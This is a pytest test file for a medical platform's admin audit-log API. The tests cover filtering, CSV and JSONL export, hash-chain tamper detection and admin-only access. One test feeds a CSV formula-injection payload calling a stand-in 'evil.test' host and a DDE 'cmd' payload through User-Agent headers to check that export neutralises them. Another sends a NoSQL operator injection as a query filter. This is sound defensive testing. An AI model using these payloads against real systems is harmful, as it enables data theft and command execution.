"""Admins search, export and verify the audit trail, and see activity, access and security."""

import csv
import io
import json
import time
from datetime import UTC, datetime, timedelta

import dramatiq
import pytest

from config.settings import Settings
from domain.audit import queries
from domain.audit.chain import GENESIS, append, ensure_audit_indexes, record_hash
from domain.audit.mapping import audit_record
from domain.events import Actor, EventContext, EventType, Subject, new_event
from tests.support.people import make_person


@pytest.fixture(autouse=True)
def generous_rate_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RATE_LIMIT_PER_MINUTE", "100000")
    monkeypatch.setenv("AUTH_RATE_LIMIT_PER_MINUTE", "100000")


@pytest.fixture
async def db(db):  # type: ignore[no-untyped-def]
    await ensure_audit_indexes(db)
    return db


def _key(settings: Settings) -> bytes:
    return settings.audit.hmac_key.get_secret_value().encode()


async def record(
    db,
    settings,
    type_: str,
    *,
    actor: str,
    role: str = "doctor",
    patient: str | None = None,
    when: datetime | None = None,
    subject: tuple[str, str] = ("consultation", "c1"),
) -> dict:  # type: ignore[no-untyped-def]
    event = new_event(
        type_,
        actor=Actor(id=actor, role=role),
        subject=Subject(type=subject[0], id=subject[1]),
        patient_id=patient,
        context=EventContext(ip="10.0.0.9"),
    )
    if when is not None:
        event = event.model_copy(update={"occurred_at": when})
    doc = await append(db, _key(settings), audit_record(event.to_message(), source="test"))
    assert doc is not None
    return doc


async def test_filters_pages_and_time_range(client, db, settings) -> None:
    admin = await make_person(db, settings, "admin")
    old = datetime.now(UTC) - timedelta(days=3)
    await record(db, settings, EventType.RECORD_ACCESSED, actor="d1", patient="p1", when=old)
    await record(db, settings, EventType.RECORD_ACCESSED, actor="d2", patient="p1")
    await record(db, settings, EventType.CONSULTATION_CREATED, actor="d1", patient="p2")
    await record(
        db,
        settings,
        EventType.AUTH_LOGIN_FAILED,
        actor="u9",
        role="anonymous",
        subject=("user", "u9"),
    )
    headers = admin.headers

    async def ids(query: str) -> list[str]:
        response = await client.get(f"/api/v1/admin/audit-logs?{query}", headers=headers)
        assert response.status_code == 200, response.text
        return [item["actor_id"] for item in response.json()["items"]]

    assert await ids("actor_id=d1") == ["d1", "d1"]
    assert await ids("patient_id=p1") == ["d2", "d1"]  # newest first
    assert await ids("category=medical&action=C") == ["d1"]
    assert await ids("category=security") == ["u9"]
    assert await ids("resource_type=consultation&resource_id=c1&patient_id=p2") == ["d1"]
    since = (datetime.now(UTC) - timedelta(days=1)).date().isoformat()
    assert await ids(f"patient_id=p1&from={since}") == ["d2"]
    assert await ids(f"patient_id=p1&to={since}") == ["d1"]
    page = (await client.get("/api/v1/admin/audit-logs?page=2&page_size=3", headers=headers)).json()
    assert (page["total"], page["page"], len(page["items"])) == (4, 2, 1)
    item = page["items"][0]
    assert item["time"].endswith("Z") and item["ip"] == "10.0.0.9" and item["hash"]


async def test_every_filter_of_the_contract_is_indexed_with_the_chain_order(db) -> None:
    leading = {}
    for index in (await db.audit_logs.index_information()).values():
        fields = [name for name, _ in index["key"]]
        leading.setdefault(fields[0], []).append(fields)
    for field in ("actor_id", "category", "action", "resource_type", "resource_id",
                  "patient_id"):  # fmt: skip
        assert [field, "seq"] in leading.get(field, []), field
    assert "time" in leading  # from / to


async def test_bad_filters_are_refused_and_operators_are_data(client, db, settings) -> None:
    admin = await make_person(db, settings, "admin")
    await record(db, settings, EventType.RECORD_ACCESSED, actor="d1", patient="p1")
    for query in ("category=everything", "action=Z", "from=yesterday", "page_size=1000"):
        response = await client.get(f"/api/v1/admin/audit-logs?{query}", headers=admin.headers)
        assert response.status_code in (400, 422), query
    injected = await client.get(
        '/api/v1/admin/audit-logs?actor_id={"$ne":null}', headers=admin.headers
    )
    assert injected.status_code == 200 and injected.json()["total"] == 0


async def test_export_round_trips_as_csv_and_jsonl(client, db, settings) -> None:
    admin = await make_person(db, settings, "admin")
    written = [await record(db, settings, EventType.RECORD_ACCESSED, actor=f"d{n % 3}",
                            patient="p1") for n in range(450)]  # fmt: skip
    jsonl = await client.get(
        "/api/v1/admin/audit-logs/export?format=jsonl&patient_id=p1", headers=admin.headers
    )
    assert jsonl.status_code == 200
    assert jsonl.headers["content-type"].startswith("application/x-ndjson")
    assert "attachment" in jsonl.headers["content-disposition"]
    rows = [json.loads(line) for line in jsonl.text.splitlines()]
    assert [r["seq"] for r in rows] == [d["seq"] for d in written]
    assert [r["hash"] for r in rows] == [d["hash"] for d in written]

    exported = await client.get(
        "/api/v1/admin/audit-logs/export?format=csv&actor_id=d1", headers=admin.headers
    )
    assert exported.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(table) == 150 and {r["actor_id"] for r in table} == {"d1"}
    assert {r["event_type"] for r in table} == {"record.accessed"}
    bad = await client.get("/api/v1/admin/audit-logs/export?format=xml", headers=admin.headers)
    assert bad.status_code in (400, 422)


async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client, db, settings) -> None:
    admin = await make_person(db, settings, "admin")
    hostile = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
    # A real failed sign-in carries the client's User-Agent into its event...
    login = await client.post(
        "/api/v1/auth/login",
        json={"email": "nobody@example.test", "password": "wrongpass1"},
        headers={"User-Agent": hostile},
    )
    assert login.status_code == 401
    failed = await db.outbox.find_one({"event.type": "auth.login_failed"})
    # ...and the audit processor (not running here) would append it like this.
    await append(db, _key(settings), audit_record(failed["event"], source="auth.events"))
    others = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "plain; ok"]
    for agent in others:
        event = new_event(
            EventType.RECORD_ACCESSED,
            actor=Actor(id="d1", role="doctor"),
            subject=Subject(type="consultation", id="c1"),
            patient_id="p1",
            context=EventContext(user_agent=agent),
        )
        await append(db, _key(settings), audit_record(event.to_message(), source="test"))

    exported = await client.get("/api/v1/admin/audit-logs/export?format=csv", headers=admin.headers)
    assert exported.status_code == 200
    table = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert [r["user_agent"] for r in table] == ["'" + hostile, *("'" + a for a in others[:-1]),
                                                "plain; ok"]  # fmt: skip
    for row in table:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # JSONL is data, not a spreadsheet: it keeps the value exactly as recorded.
    jsonl = await client.get("/api/v1/admin/audit-logs/export?format=jsonl", headers=admin.headers)
    agents = [json.loads(line)["user_agent"] for line in jsonl.text.splitlines()]
    assert agents == [hostile, *others]


async def _chain_of(db, settings, count: int) -> list[dict]:  # type: ignore[no-untyped-def]
    """`count` chained access records, hashed as `append` does but stored in bulk."""
    docs, prev = [], GENESIS
    for seq in range(1, count + 1):
        event = new_event(
            EventType.RECORD_ACCESSED,
            actor=Actor(id=f"d{seq % 7}", role="doctor"),
            subject=Subject(type="consultation", id=f"c{seq}"),
            patient_id="p1",
        )
        doc = {**audit_record(event.to_message(), source="test"), "seq": seq, "prev_hash": prev}
        doc["hash"] = prev = record_hash(_key(settings), prev, doc)
        docs.append(doc)
    await db.audit_logs.insert_many(docs)
    return [queries.view(d) async for d in db.audit_logs.find().sort("seq", 1)]


async def test_an_export_of_ten_thousand_records_streams_and_round_trips(
    client, db, settings
) -> None:
    admin = await make_person(db, settings, "admin")
    stored = await _chain_of(db, settings, 10_000)
    jsonl = await client.get("/api/v1/admin/audit-logs/export?format=jsonl", headers=admin.headers)
    assert [json.loads(line) for line in jsonl.text.splitlines()] == stored
    exported = await client.get("/api/v1/admin/audit-logs/export?format=csv", headers=admin.headers)
    table = list(csv.DictReader(io.StringIO(exported.text)))
    as_text = [{k: "" if v is None else str(v) for k, v in r.items()} for r in stored]
    assert table == as_text
    # Handed out piece by piece as the cursor advances (memory is measured in bench.exports).
    chunks = [chunk async for chunk in queries.export_csv(db, queries.AuditFilter())]
    assert len(chunks) > 10_000 // 500
    verified = (await client.get("/api/v1/admin/audit-logs/verify", headers=admin.headers)).json()
    assert (verified["valid"], verified["checked"]) == (True, 10_000)


async def test_verify_reports_the_first_tampered_record(client, db, settings) -> None:
    admin = await make_person(db, settings, "admin")
    docs = [await record(db, settings, EventType.RECORD_ACCESSED, actor="d1", patient="p1")
            for _ in range(5)]  # fmt: skip
    ok = (await client.get("/api/v1/admin/audit-logs/verify", headers=admin.headers)).json()
    assert ok == {"valid": True, "checked": 5, "first_bad": None, "reason": None}
    await db.audit_logs.update_one({"_id": docs[2]["_id"]}, {"$set": {"actor_id": "someone"}})
    bad = (await client.get("/api/v1/admin/audit-logs/verify", headers=admin.headers)).json()
    assert bad["valid"] is False and bad["first_bad"] == str(docs[2]["_id"])


async def test_activity_access_log_and_security_events(client, db, settings) -> None:
    admin = await make_person(db, settings, "admin")
    d1, d2 = [await make_person(db, settings, "doctor") for _ in range(2)]
    p1, p2 = [await make_person(db, settings, "patient") for _ in range(2)]
    await record(db, settings, EventType.RECORD_ACCESSED, actor=d1.id, patient=p1.id)
    await record(db, settings, EventType.CONSULTATION_CREATED, actor=d1.id, patient=p1.id)
    await record(db, settings, EventType.RECORD_ACCESSED, actor=d2.id, patient=p2.id)
    await record(
        db, settings, EventType.AUTH_LOCKED_OUT, actor="u1", role="patient", subject=("user", "u1")
    )
    activity = await client.get(f"/api/v1/admin/users/{d1.id}/activity", headers=admin.headers)
    assert [i["event_type"] for i in activity.json()["items"]] == [
        "consultation.created",
        "record.accessed",
    ]
    access = await client.get(f"/api/v1/admin/patients/{p1.id}/access-log", headers=admin.headers)
    assert [(i["actor_id"], i["event_type"]) for i in access.json()["items"]] == [
        (d1.id, "record.accessed")
    ]
    security = (await client.get("/api/v1/admin/security-events", headers=admin.headers)).json()
    assert [i["event_type"] for i in security["items"]] == ["auth.locked_out"]


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/admin/users/000000000000000000000000/activity",
        "/api/v1/admin/users/d1/activity",
        "/api/v1/admin/patients/000000000000000000000000/access-log",
        "/api/v1/admin/patients/{doctor}/access-log",
    ],
)
async def test_the_trail_of_someone_who_does_not_exist_is_a_404(
    client, db, settings, path: str
) -> None:
    """Not an empty page, which would say this person did nothing, or was never read."""
    admin = await make_person(db, settings, "admin")
    doctor = await make_person(db, settings, "doctor")
    response = await client.get(path.format(doctor=doctor.id), headers=admin.headers)
    assert response.status_code == 404, response.text
    assert response.headers["content-type"] == "application/problem+json"


async def test_stats(client, db, settings) -> None:
    admin = await make_person(db, settings, "admin")
    for role in ("patient", "patient", "doctor"):
        await make_person(db, settings, role)
    await db.appointments.insert_many([{"status": "requested"}, {"status": "requested"},
                                       {"status": "confirmed"}])  # fmt: skip
    await record(db, settings, EventType.RECORD_ACCESSED, actor="d1", patient="p1")
    dramatiq.get_broker().get_actor("system.ping").send(token="stats")
    stats = (await client.get("/api/v1/admin/stats", headers=admin.headers)).json()
    assert stats["users_by_role"] == {"admin": 1, "patient": 2, "doctor": 1}
    assert stats["appointments_by_status"] == {"requested": 2, "confirmed": 1}
    today = datetime.now(UTC).date().isoformat()
    assert stats["events_per_day"][-1] == {"date": today, "count": 1}
    assert len(stats["events_per_day"]) == 14
    assert stats["queue_depths"]["system"] == {"ready": 1, "delayed": 0, "dead": 0}


async def test_a_failed_login_reaches_security_events_end_to_end(
    client, db, settings, platform
) -> None:
    admin = await make_person(db, settings, "admin")
    platform.start("streams")
    await client.post(
        "/api/v1/auth/login", json={"email": "nobody@example.org", "password": "wrong password 1"}
    )
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        events = (await client.get("/api/v1/admin/security-events", headers=admin.headers)).json()
        if any(i["event_type"] == "auth.login_failed" for i in events["items"]):
            break
        time.sleep(0.5)
    else:
        raise AssertionError(platform.processes[0].log()[-3000:])
    assert events["items"][0]["outcome"] == "failure"


async def test_only_admins(client, db, settings) -> None:
    paths = ["/api/v1/admin/audit-logs", "/api/v1/admin/audit-logs/export?format=csv",
             "/api/v1/admin/audit-logs/verify", "/api/v1/admin/users/x/activity",
             "/api/v1/admin/patients/x/access-log", "/api/v1/admin/security-events",
             "/api/v1/admin/stats"]  # fmt: skip
    doctor = await make_person(db, settings, "doctor")
    for path in paths:
        assert (await client.get(path)).status_code == 401, path
        assert (await client.get(path, headers=doctor.headers)).status_code == 403, path


async def test_a_date_only_to_covers_that_day_and_a_reversed_range_is_refused(
    client, db, settings
) -> None:
    admin = await make_person(db, settings, "admin")
    day = datetime.now(UTC).date() - timedelta(days=2)
    noon = datetime(day.year, day.month, day.day, 12, tzinfo=UTC)
    await record(db, settings, EventType.RECORD_ACCESSED, actor="d1", when=noon)
    await record(db, settings, EventType.RECORD_ACCESSED, actor="d2", when=noon + timedelta(days=1))

    async def actors(query: str) -> list[str]:
        response = await client.get(f"/api/v1/admin/audit-logs?{query}", headers=admin.headers)
        assert response.status_code == 200, response.text
        return [item["actor_id"] for item in response.json()["items"]]

    assert await actors(f"to={day}") == ["d1"]  # was []: the day ended at its own midnight
    assert await actors(f"from={day}&to={day}") == ["d1"]
    assert await actors(f"to={noon:%Y-%m-%dT%H:%M:%SZ}") == []  # a time stays exclusive
    export = await client.get(f"/api/v1/admin/audit-logs/export?to={day}", headers=admin.headers)
    assert [json.loads(line)["actor_id"] for line in export.text.splitlines()] == ["d1"]

    later = day + timedelta(days=1)
    for path in ("/api/v1/admin/audit-logs", "/api/v1/admin/audit-logs/export"):
        refused = await client.get(f"{path}?from={later}&to={day}", headers=admin.headers)
        assert refused.status_code == 422, (path, refused.text)
        assert refused.headers["content-type"] == "application/problem+json"
        assert [e["field"] for e in refused.json()["errors"]] == ["to"]
